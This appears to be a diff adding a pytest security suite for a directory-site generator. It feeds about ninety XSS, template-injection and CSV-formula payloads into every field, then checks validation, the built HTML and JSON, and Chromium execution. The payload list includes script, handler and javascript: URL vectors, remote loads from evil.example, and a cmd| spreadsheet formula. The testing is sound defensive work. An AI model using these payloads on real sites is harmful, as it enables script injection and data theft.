@@ -1,0 +1,550 @@
+"""Cross-site scripting: hostile payloads in every free-text and URL field of every record kind.
+
+For each payload, one professional, one structure and one convention carry it in every
+free-text and URL field. The validator either refuses a field with a specific code, or
+accepts it; the accepted ones are then built into a real site (``maillage build``) whose
+every HTML page, JSON index and export is checked: the text is data, never markup,
+never a script, never a dangerous link. Real Chromium finally loads the directory and
+record pages and no dialog opens, no injected script runs.
+"""
+
+from __future__ import annotations
+
+import csv
+import functools
+import http.server
+import io
+import json
+import re
+import threading
+from collections.abc import Iterator
+from contextlib import redirect_stderr, redirect_stdout
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote, urlparse
+
+import pytest
+import yaml
+
+from conftest import CONVENTION, PROFESSIONNEL, STRUCTURE, make_registry
+from maillage.cli import main
+from maillage.loader import parse_text
+from maillage.schemas import load_schemas
+
+CHROMIUM = Path("/usr/bin/chromium")
+
+PAYLOADS = [
+    # Script tags and event handlers.
+    "<script>window.__xss=1</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>window.__xss=1</script>",
+    "<img src=x onerror=window.__xss=1>",
+    "<IMG SRC=x ONERROR=\"alert(1)\">",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    # Broken-out quotes and attributes.
+    "\"><svg onload=window.__xss=1>",
+    "'><img src=x onerror=alert(1)>",
+    "\" onmouseover=\"window.__xss=1",
+    "' onmouseover='window.__xss=1' x='",
+    "` onmouseover=`alert(1)",
+    # javascript: in every casing, with entities, whitespace and control characters.
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "JAVASCRIPT:window.__xss=1",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "java\u0000script:alert(1)",
+    "java\u200bscript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "&#x6A;avascript&#58;alert(1)",
+    "javascript&colon;alert(1)",
+    "jav&#x09;ascript:alert(1)",
+    "javascript\u3000:alert(1)",
+    "ｊavascript:alert(1)",
+    "https://example.org/#javascript:alert(1)",
+    "https://example.org/\"onmouseover=\"alert(1)",
+    "https://example.org/'onmouseover='alert(1)",
+    "https://example.org/<script>",
+    "https:javascript:alert(1)",
+    "//evil.example/x",
+    "http://evil.example/",
+    # data:, vbscript: and file: URLs.
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "data:text/html,<script>alert(1)</script>",
+    "DATA:image/svg+xml,<svg onload=alert(1)>",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    # SVG, MathML, iframes, forms, base, meta.
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
+    "<iframe src=javascript:alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<form action=javascript:alert(1)><button>ok</button></form>",
+    "<base href=\"https://evil.example/\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    # CSS.
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "x{background:expression(alert(1))}",
+    "width: expression(alert(1)); background: url(javascript:alert(1))",
+    # Template injection (inert text: must come out exactly as written).
+    "{{7*7}}",
+    "{{ config.__class__.__init__.__globals__ }}",
+    "{% raw %}{{ 7*7 }}{% endraw %}",
+    "{% for x in range(3) %}{{x}}{% endfor %}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    "{{constructor.constructor('window.__xss=1')()}}",
+    # Markdown link and image tricks.
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x]( javascript:alert(1) )",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "![x](x\" onerror=\"window.__xss=1)",
+    "![x](https://evil.example/pixel.png)",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "[x](https://example.org/ \"t\" onmouseover=alert(1))",
+    "<javascript:alert(1)>",
+    "<https://example.org/\" onmouseover=\"alert(1)>",
+    "**[gras](javascript:alert(1))**",
+    # Comments and breaking out of scripts.
+    "<!-- --><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "</script><script>window.__xss=1</script>",
+    "</textarea><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "\u2028\u2029</script>",
+    # Harmless-looking text that still must stay text.
+    "Tom & Jerry \"quotes\" 'apostrophes' <3",
+    "a < b > c",
+    "1 < 2 && 3 > 2",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    "=cmd|' /C calc'!A0",
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+]
+
+PRO, STRUCT, CONV = "professionnel", "structure", "convention"
+FOLDER = {PRO: "professionnels", STRUCT: "structures", CONV: "conventions"}
+
+# Base records that fill every free-text and URL field of each kind (checked below).
+PRO_BASE = PROFESSIONNEL.replace(
+    "    accessible_pmr: true\n",
+    "    accessible_pmr: true\n    complement_adresse: Bâtiment B\n    rendez_vous: https://rdv.example.org/lefevre\n",
+).replace("statut: actif\n", "statut: actif\nsite_web: https://lefevre.example.org/\n").replace(
+    "  notes: Préfère les courriels.\n", "  notes: Préfère les courriels.\n  contact: Mme Durand, secrétaire\n")
+STRUCT_BASE = STRUCTURE.replace(
+    "    horaires: Mo-Fr 09:00-17:00\n",
+    "    horaires: Mo-Fr 09:00-17:00\n    nom: Antenne du centre\n    complement_adresse: Rez-de-chaussée\n"
+    "    rendez_vous: https://rdv.example.org/cmp\n",
+).replace("orientation:\n  requise: false\n", "orientation:\n  requise: false\n  precisions: Sur appel.\n"
+          "admission:\n  procedure: Appeler le secrétariat.\n  documents: [Carnet de santé]\n"
+          "conditions_acces: Enfants du secteur.\n"
+          "description: Consultations pour enfants.\n"
+          "site_web: https://cmp.example.org/\n").replace(
+    "frais:\n  type: gratuit\n", "frais:\n  type: gratuit\n  precisions: Sans avance de frais.\n").replace(
+    "source: Site de la structure\n",
+    "source: Site de la structure\ninterne:\n  contact: M. Morel, cadre\n  notes: Réunion annuelle.\n")
+CONV_BASE = CONVENTION.replace(
+    "parties:\n", "parties:\n  - professionnel: lefevre-claire\n    role: prestataire\n").replace(
+    "services: [soins-psychologiques]\n",
+    "services: [soins-psychologiques]\npublic:\n  description: Enfants confiés à l'ASE.\n",
+).replace("    unite: par-enfant\n", "    unite: par-enfant\n  - financeur: autre\n    financeur_precision: CAF\n"
+          "    mode: subvention\n").replace(
+    "statut: active\n", "statut: active\ndocuments:\n  - titre: Convention signée\n"
+    "    url: https://docs.example.org/convention.pdf\ninterne:\n  contact: Mme Roux\n  notes: Bilan en juin.\n")
+BASES = {PRO: PRO_BASE, STRUCT: STRUCT_BASE, CONV: CONV_BASE}
+
+TEXT_CODES = {"text-html", "text-control", "schema-length", "child-data"}
+FIELD_CODES = {"horaires": {"hours-invalid"}, "commune": {"geo-commune-mismatch"}}
+URL_CODES = {"schema-link-scheme", "schema-format", "text-control", "schema-length"}
+
+
+def _injectable(kind: str) -> dict[tuple[str, ...], bool]:
+    """Every free-text or URL field of a kind's schema: its path ("*" for list items) → is it a URL."""
+    schemas = load_schemas()
+    fields: dict[tuple[str, ...], bool] = {}
+    for path, node, base in schemas.walk(kind):
+        target = node
+        if node.get("type") == "array" and isinstance(node.get("items"), dict):
+            target, _ = schemas.resolve(node["items"], base)
+            path = (*path, "*")
+        if target.get("type") != "string" or "enum" in target:
+            continue
+        pattern = target.get("pattern")
+        if pattern is None or pattern.startswith("^https://"):
+            fields[path] = pattern is not None
+    return fields
+
+
+FIELDS = {kind: _injectable(kind) for kind in BASES}
+
+
+def _base_data(kind: str) -> dict[str, Any]:
+    return parse_text(BASES[kind], "base.yaml", load_schemas().text_keys).data
+
+
+def _string_paths(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
+    if isinstance(value, str):
+        yield path
+    elif isinstance(value, dict):
+        for key, item in value.items():
+            yield from _string_paths(item, (*path, key))
+    elif isinstance(value, list):
+        for index, item in enumerate(value):
+            yield from _string_paths(item, (*path, index))
+
+
+def _schema_path(path: tuple[str | int, ...]) -> tuple[str, ...]:
+    return tuple("*" if isinstance(p, int) else p for p in path)
+
+
+def _targets(kind: str) -> list[tuple[tuple[str | int, ...], bool]]:
+    """Concrete paths of the base record to inject into, with whether each is a URL field."""
+    return [(p, FIELDS[kind][_schema_path(p)]) for p in _string_paths(_base_data(kind))
+            if _schema_path(p) in FIELDS[kind]]
+
+
+def _set(data: Any, path: tuple[str | int, ...], value: str) -> None:
+    for part in path[:-1]:
+        data = data[part]
+    data[path[-1]] = value
+
+
+def _dump(data: dict[str, Any]) -> str:
+    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1_000_000)
+
+
+def _records(kind: str, payload: str, only: set[tuple[str | int, ...]] | None, rid: str,
+             refs: dict[str, str]) -> str:
+    data = _base_data(kind)
+    for path, _is_url in _targets(kind):
+        if only is None or path in only:
+            _set(data, path, payload)
+    for identifier in ("rpps", "finess", "siret"):
+        data.pop(identifier, None)
+    if kind == CONV:
+        data["parties"][0]["professionnel"] = refs["professionnel"]
+        data["parties"][1]["structure"] = refs["structure"]
+    return _dump(data)
+
+
+def test_every_free_text_and_url_field_is_covered() -> None:
+    for kind in BASES:
+        covered = {_schema_path(p) for p, _ in _targets(kind)}
+        assert covered == set(FIELDS[kind]), (kind, set(FIELDS[kind]) - covered)
+
+
+def test_payloads_are_many_and_distinct() -> None:
+    assert len(PAYLOADS) >= 50 and len(set(PAYLOADS)) == len(PAYLOADS)
+
+
+def _validate(root: Path) -> tuple[int, list[dict[str, Any]]]:
+    out = io.StringIO()
+    with redirect_stdout(out):
+        code = main(["validate", "--registry", str(root), "--format", "json"])
+    return code, json.loads(out.getvalue())["problems"]
+
+
+def _verdicts(tmp: Path, index: int, payload: str) -> dict[tuple[str, tuple[str | int, ...]], set[str]]:
+    """(kind, field path) → codes of the errors reported on that field (empty: accepted)."""
+    root = make_registry(tmp / f"v{index}")
+    refs = {"professionnel": "xss-pro", "structure": "xss-str"}
+    for kind, rid in ((PRO, "xss-pro"), (STRUCT, "xss-str"), (CONV, "xss-conv")):
+        (root / FOLDER[kind] / f"{rid}.yaml").write_text(_records(kind, payload, None, rid, refs), encoding="utf-8")
+    _code, problems = _validate(root)
+    verdicts: dict[tuple[str, tuple[str | int, ...]], set[str]] = {}
+    by_file = {PRO: "xss-pro.yaml", STRUCT: "xss-str.yaml", CONV: "xss-conv.yaml"}
+    for kind in BASES:
+        for path, _is_url in _targets(kind):
+            dotted = ".".join(map(str, path))
+            verdicts[(kind, path)] = {p["code"] for p in problems if p["file"].endswith(by_file[kind])
+                                      and p["path"] == dotted and p["severity"] == "erreur"}
+    unplaced = [p for p in problems if p["severity"] == "erreur"
+                and not any(p["path"] == ".".join(map(str, path)) for kind in BASES for path, _ in _targets(kind))]
+    assert unplaced == [], unplaced
+    return verdicts
+
+
+@pytest.fixture(scope="module")
+def verdicts(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[tuple[str, tuple[str | int, ...]], set[str]]]:
+    mp = pytest.MonkeyPatch()
+    mp.setenv("MAILLAGE_TODAY", "2026-11-22")
+    try:
+        tmp = tmp_path_factory.mktemp("xss-validate")
+        return {payload: _verdicts(tmp, i, payload) for i, payload in enumerate(PAYLOADS)}
+    finally:
+        mp.undo()
+
+
+_DANGEROUS_TEXT = re.compile(
+    r"<\s*[a-zA-Z!/?]|javascript|vbscript|data:text|&#|&[a-z]+;|\]\(\s*<?(?!https://|mailto:|tel:)", re.IGNORECASE)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_validator_refuses_with_a_specific_code_or_accepts_inert_text(payload: str, verdicts) -> None:
+    for (kind, path), codes in verdicts[payload].items():
+        is_url = FIELDS[kind][_schema_path(path)]
+        name = str(path[-1]) if isinstance(path[-1], str) else str(path[-2])
+        if is_url:
+            assert codes <= URL_CODES, (kind, path, codes)
+            # Only a real https:// address without quotes or spaces can be a link.
+            if not (payload.startswith("https://") and not re.search(r"[\s\"'<>`]", payload)):
+                assert codes, (kind, path, "URL accepted")
+        else:
+            assert codes <= TEXT_CODES | FIELD_CODES.get(name, set()), (kind, path, codes)
+            if _DANGEROUS_TEXT.search(payload) or re.search(r"[\u0000-\u0008\u200b\u2028]", payload):
+                assert codes, (kind, path, "markup accepted as text")
+
+
+# --- The accepted payloads, built into a real site ------------------------------------------
+
+def _accepted(verdicts) -> dict[str, dict[str, set[tuple[str | int, ...]]]]:
+    accepted: dict[str, dict[str, set[tuple[str | int, ...]]]] = {}
+    for payload, table in verdicts.items():
+        fields: dict[str, set[tuple[str | int, ...]]] = {kind: set() for kind in BASES}
+        for (kind, path), codes in table.items():
+            if not codes:
+                fields[kind].add(path)
+        if any(fields.values()):
+            accepted[payload] = fields
+    return accepted
+
+
+@pytest.fixture(scope="module")
+def built(verdicts, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    mp = pytest.MonkeyPatch()
+    mp.setenv("MAILLAGE_TODAY", "2026-11-22")
+    try:
+        base = tmp_path_factory.mktemp("xss-site")
+        accepted = _accepted(verdicts)
+        root = make_registry(base / "registry")
+        ids: dict[str, dict[str, str]] = {}
+        for index, (payload, fields) in enumerate(sorted(accepted.items())):
+            refs = {"professionnel": f"xss-{index}-pro", "structure": f"xss-{index}-str"}
+            ids[payload] = {PRO: refs["professionnel"], STRUCT: refs["structure"], CONV: f"xss-{index}-conv"}
+            for kind in BASES:
+                text = _records(kind, payload, fields[kind], ids[payload][kind], refs)
+                (root / FOLDER[kind] / f"{ids[payload][kind]}.yaml").write_text(text, encoding="utf-8")
+        code, problems = _validate(root)
+        assert code == 0, [p for p in problems if p["severity"] == "erreur"][:5]
+        site = base / "site"
+        out, err = io.StringIO(), io.StringIO()
+        with redirect_stdout(out), redirect_stderr(err):
+            assert main(["build", "--registry", str(root), "--site-dir", str(site)]) == 0, err.getvalue()
+        return {"site": site, "accepted": accepted, "ids": ids}
+    finally:
+        mp.undo()
+
+
+def test_some_payloads_are_accepted_as_text(built) -> None:
+    accepted = built["accepted"]
+    assert "{{7*7}}" in accepted and "Tom & Jerry \"quotes\" 'apostrophes' <3" in accepted
+    assert len(accepted) >= 10
+
+
+class _Page(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
+        self.text: list[str] = []
+        self._in_script = False
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, attrs))
+        self._in_script = tag in ("script", "style")
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, attrs))
+
+    def handle_endtag(self, tag: str) -> None:
+        self._in_script = False
+
+    def handle_data(self, data: str) -> None:
+        if not self._in_script:
+            self.text.append(data)
+
+
+_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "srcset", "background"}
+_SAFE_SCHEME = re.compile(r"^(?:https:|mailto:|tel:|[^:/?#]*(?:[/?#]|$))", re.IGNORECASE)
+
+
+def _check_page(path: Path, html: str) -> _Page:
+    page = _Page()
+    page.feed(html)
+    page.close()
+    for tag, attrs in page.elements:
+        names = {name for name, _ in attrs}
+        assert not [n for n in names if n.startswith("on")], (path, tag, attrs)
+        for name, value in attrs:
+            if name == "style":
+                assert "url(" not in (value or "") and "expression" not in (value or ""), (path, tag, attrs)
+            if name in _URL_ATTRIBUTES and value is not None:
+                for candidate in (value.split(",") if name == "srcset" else [value]):
+                    url = candidate.strip().split(" ")[0]
+                    assert _SAFE_SCHEME.match(url), (path, tag, name, value)
+                    assert not url.startswith("//"), (path, tag, name, value)
+        if tag == "script":
+            attributes = dict(attrs)
+            assert attributes.get("src") or attributes.get("type") == "application/json", (path, attrs)
+        assert tag not in ("iframe", "object", "embed", "base", "svg", "math") or not any(
+            n for n in names if n in ("srcdoc", "action", "data")), (path, tag, attrs)
+        if tag == "meta":
+            assert dict(attrs).get("http-equiv", "").lower() != "refresh", (path, attrs)
+    return page
+
+
+def test_every_built_page_is_inert(built) -> None:
+    site: Path = built["site"]
+    pages = sorted(site.rglob("*.html"))
+    assert len(pages) > 3 * len(built["accepted"])
+    for path in pages:
+        html = path.read_text(encoding="utf-8")
+        _check_page(path, html)
+        # A payload's "<" is always escaped (a quote may stay raw in text, never in an attribute:
+        # the attribute check above would see the handler it opens).
+        for payload in built["accepted"]:
+            if "<" in payload:
+                assert payload not in html, (path, payload)
+
+
+def test_accepted_text_reads_exactly_as_written_on_record_pages(built) -> None:
+    site: Path = built["site"]
+    for payload, fields in built["accepted"].items():
+        for kind in BASES:
+            if not fields[kind]:
+                continue
+            rid = built["ids"][payload][kind]
+            page = _check_page(site, (site / FOLDER[kind] / rid / "index.html").read_text(encoding="utf-8"))
+            text = re.sub(r"\s+", " ", "".join(page.text))
+            shown = re.sub(r"\s+", " ", payload).strip()
+            markdown_fields = {("description",), ("interne", "notes"), ("objet",), ("conditions_acces",),
+                               ("admission", "procedure")}
+            plain = [p for p in fields[kind] if tuple(str(x) for x in p) not in markdown_fields
+                     and p[-1] not in ("site_web", "rendez_vous", "url") and p[0] != "interne"]
+            if plain and not re.search(r"[*_`\[\]#]", payload):
+                assert shown in text, (kind, rid, payload)
+            if "7*7" in payload:
+                assert "49" not in text.replace(rid, ""), (kind, rid, payload)
+
+
+def _json_strings(value: Any) -> Iterator[str]:
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for key, item in value.items():
+            yield key
+            yield from _json_strings(item)
+    elif isinstance(value, list):
+        for item in value:
+            yield from _json_strings(item)
+
+
+def _name_payloads(built) -> list[str]:
+    return [p for p, fields in built["accepted"].items() if ("nom",) in fields[PRO]]
+
+
+def test_json_indexes_and_exports_carry_the_text_as_data(built) -> None:
+    site: Path = built["site"]
+    names = _name_payloads(built)
+    assert names
+    for relative in ("annuaire/index.json", "donnees/registre.json", "donnees/registre.geojson"):
+        strings = set(_json_strings(json.loads((site / relative).read_text(encoding="utf-8"))))
+        joined = "\n".join(strings)
+        for payload in names:
+            assert payload in strings or payload in joined, (relative, payload)
+    for relative in ("donnees/professionnels.csv", "donnees/tableur/professionnels.csv"):
+        raw = (site / relative).read_text(encoding="utf-8-sig")
+        delimiter = ";" if "tableur" in relative else ","
+        cells = {cell for row in csv.reader(io.StringIO(raw), delimiter=delimiter) for cell in row}
+        for payload in names:
+            formula = payload[:1] in "=+-@"
+            assert payload in cells or (formula and "'" + payload in cells) or (
+                formula and "tableur" not in relative), (relative, payload)
+        if "tableur" in relative:
+            assert not [c for c in cells if c[:1] in "=+@" and "cmd|" in c], relative
+    # Every JSON file of the site parses (a payload never breaks out of a string).
+    for path in site.rglob("*.json"):
+        json.loads(path.read_text(encoding="utf-8"))
+    for path in site.rglob("*.geojson"):
+        json.loads(path.read_text(encoding="utf-8"))
+    # Embedded JSON configuration cannot be closed by a payload.
+    for path in site.rglob("*.html"):
+        for block in re.findall(r'<script[^>]*type="application/json"[^>]*>(.*?)</script>',
+                                path.read_text(encoding="utf-8"), flags=re.S):
+            json.loads(block)
+
+
+def test_calendar_export_lines_are_not_broken_by_text(built) -> None:
+    ics = (built["site"] / "donnees" / "conventions.ics").read_text(encoding="utf-8")
+    for line in ics.split("\r\n"):
+        if line:
+            assert re.match(r"^(?:[A-Z-]+[;:]|[ \t])", line), line
+
+
+# --- Real Chromium -------------------------------------------------------------------------
+
+class _Quiet(http.server.SimpleHTTPRequestHandler):
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@pytest.fixture(scope="module")
+def served(built) -> Iterator[str]:
+    handler = functools.partial(_Quiet, directory=str(built["site"]))
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.mark.browser
+@pytest.mark.skipif(not CHROMIUM.exists(), reason="Chromium absent : installer le paquet Debian « chromium »")
+def test_no_payload_runs_in_chromium(built, served) -> None:
+    sync_api = pytest.importorskip("playwright.sync_api")
+    names = _name_payloads(built)
+    urls = [f"{served}/annuaire/", f"{served}/conventions/", f"{served}/professionnels/",
+            f"{served}/structures/"]
+    urls += [f"{served}/annuaire/?q={quote(p)}" for p in names[:8]]
+    for payload in list(built["accepted"])[:25]:
+        for kind in BASES:
+            urls.append(f"{served}/{FOLDER[kind]}/{built['ids'][payload][kind]}/")
+    with sync_api.sync_playwright() as pw:
+        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"])
+        try:
+            context = browser.new_context(locale="fr-FR")
+            dialogs: list[str] = []
+            blocked: list[str] = []
+
+            def route(r) -> None:  # type: ignore[no-untyped-def]
+                if urlparse(r.request.url).hostname in ("127.0.0.1", "localhost"):
+                    r.continue_()
+                else:
+                    blocked.append(r.request.url)
+                    r.abort()
+
+            context.route("**/*", route)
+            page = context.new_page()
+            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+            for url in urls:
+                page.goto(url)
+                if "/annuaire/" in url:
+                    page.wait_for_selector("#maillage-annuaire[data-etat='pret']")
+                page.wait_for_load_state("load")
+                page.mouse.move(200, 300)
+                assert page.evaluate("() => window.__xss === undefined && (window.parent.__xss === undefined)"), url
+                assert page.evaluate("() => document.querySelectorAll('iframe, object, embed').length") == 0, url
+            assert dialogs == []
+            assert not [u for u in blocked if "evil" in u], blocked
+        finally:
+            browser.close()
